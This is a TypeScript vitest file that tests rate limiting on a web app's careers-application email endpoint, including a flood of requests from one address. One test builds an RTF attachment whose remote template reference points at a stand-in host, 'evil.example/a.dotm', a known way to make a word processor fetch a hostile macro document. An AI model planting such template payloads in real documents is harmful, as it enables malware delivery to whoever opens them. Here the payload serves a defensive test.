import { expect, test } from 'vitest';
import { apiPaths } from '../../../shared/paths.ts';
import { openApp } from '../../../test/support/api.ts';
import { base64, rtf } from '../../../test/support/documents.ts';
import { careers, emailBody } from '../../../test/support/email.ts';
import { onEachEngine } from '../../../test/support/engines.ts';

/** An address that sends many applications, and one of somebody else. */
const CROWD = '192.0.2.1';
const OTHER = '192.0.2.2';

onEachEngine('the check of what visitors send', ({ makeContext }) => {
  async function open() {
    const { request } = openApp(await makeContext({ config: { trustProxy: true, rateLimit: true } }));
    return (visitor: string, params: object) =>
      request(apiPaths.email, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'X-Forwarded-For': visitor },
        body: JSON.stringify(emailBody('careers', { ...careers, ...params })),
      });
  }

  test('of many applications from one address neither delays nor refuses that of somebody else', async () => {
    const apply = await open();
    const order: string[] = [];
    const note = async (visitor: string, firstName: string) => {
      const { status } = await apply(visitor, { firstName });
      order.push(`${visitor} ${status}`);
    };
    const crowd = Array.from({ length: 20 }, (_, n) => note(CROWD, `Crowd ${n}`));
    await Promise.all([...crowd, note(OTHER, 'Grace')]);
    const answered = order.filter((each) => !each.endsWith(' 503'));
    expect(answered).toContain(`${OTHER} 200`);
    expect(answered.indexOf(`${OTHER} 200`)).toBeLessThan(answered.length / 2);
  });

  test('counts as sent files, also if they are refused', async () => {
    const apply = await open();
    const fetching = rtf(`{\\*\\template https://evil.example/a.dotm}${' '.repeat(4_900_000)}`);
    const attachments = [1, 2].map((n) => ({ filename: `${n}.rtf`, content: base64(fetching), type: '' }));
    const statuses: number[] = [];
    for (let n = 0; n < 12; n += 1) statuses.push((await apply(CROWD, { attachments })).status);
    expect(statuses).toEqual([...Array(10).fill(400), 429, 429]);
  });
});
